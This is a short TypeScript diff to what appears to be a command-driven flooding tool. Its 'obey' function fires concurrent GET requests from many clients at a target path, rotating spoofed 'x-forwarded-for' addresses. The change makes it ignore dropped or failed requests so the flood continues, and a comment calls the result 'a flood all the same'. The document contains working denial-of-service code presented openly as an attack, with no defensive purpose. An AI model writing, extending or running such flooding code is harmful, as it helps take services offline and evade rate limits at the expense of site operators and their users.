@@ -27,7 +27,11 @@ async function obey(order: z.infer<typeof orderSchema>): Promise<void> {
     for (const number of numbers) {
       const headers = { 'x-forwarded-for': addresses[number % addresses.length] };
       const asked = { path: path.replace('NEW', `${number}`), method: 'GET', headers } as const;
-      await (await pool.request(asked)).body.dump();
+      // The edge may cut off who is too slow to go on: that is a flood all the same.
+      await pool.request(asked).then(
+        ({ body }) => body.dump(),
+        () => undefined,
+      );
     }
   };
   await Promise.all(Array.from({ length: clients }, client));
